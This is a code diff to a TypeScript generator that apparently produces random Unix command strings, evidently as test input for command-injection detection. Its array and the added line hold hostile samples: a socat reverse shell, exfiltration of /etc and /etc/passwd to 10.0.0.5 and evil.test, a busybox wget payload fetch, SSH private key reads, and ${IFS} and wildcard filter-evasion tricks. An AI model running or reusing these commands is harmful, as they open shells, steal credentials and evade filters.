@@ -16,6 +16,7 @@ function unixCommand(rng: Rng): string {
     `echo ${Buffer.from('id').toString('base64')} | base64 -d | sh`, 'printf test', "awk 'BEGIN{system(\"id\")}'", 'find / -perm -4000', 'crontab -l', 'useradd hacker',
     'kill -9 1', 'head /etc/passwd', 'tail -n 5 /var/log/auth.log', 'less /etc/hosts', 'more /etc/issue', 'uptime', 'w', 'last', 'groups', 'cat ~/.ssh/id_rsa',
     'which python', 'getent passwd', 'sudo -l', 'cp /bin/sh /tmp/.x', `scp /etc/passwd ${host(rng)}:`, 'xterm -display 10.0.0.5:1', 'mkfifo /tmp/f', 'node -e "require(\'child_process\').exec(\'id\')"',
+    `socat tcp:${host(rng)}:${rng.int(1000, 9999)} exec:/bin/sh`, 'xargs id', `openssl s_client -quiet -connect ${host(rng)}:443`, 'tar cf - /etc | nc 10.0.0.5 80', 'mail -s x a@evil.test < /etc/passwd', `ssh -R 9000:localhost:22 ${host(rng)}`, 'ps -ef', 'cat /proc/cpuinfo', 'ls /home', 'uname -r', 'id -un', 'df -h', 'history', 'ls /var/www', '/bin/busybox wget http://10.0.0.5/m', 'sh${IFS}-c${IFS}id',
     'ruby -e \'`id`\'', 'lua -e "os.execute(\'id\')"', 'tftp -i 10.0.0.5 GET x', 'echo $PATH', 'set', 'export', 'dd if=/dev/zero of=/tmp/x', 'ls${IFS}-la', 'cat${IFS}/etc/passwd',
     'cat$IFS$9/etc/passwd', '{cat,/etc/passwd}', "c'a't /etc/passwd", 'c\\at /etc/passwd', 'w"h"o"a"m"i', 'who$@ami', '/???/c?t /???/p?ss??', 'cat</etc/passwd', '$(printf "\\x69\\x64")',
     '/bin/cat /etc/passwd', '/usr/bin/id', '/bin/sh -c "id"', '`echo id`', 'a=i;b=d;$a$b', 'sleep${IFS}5', 'X=$\'\\x20\';cat${X}/etc/hosts',
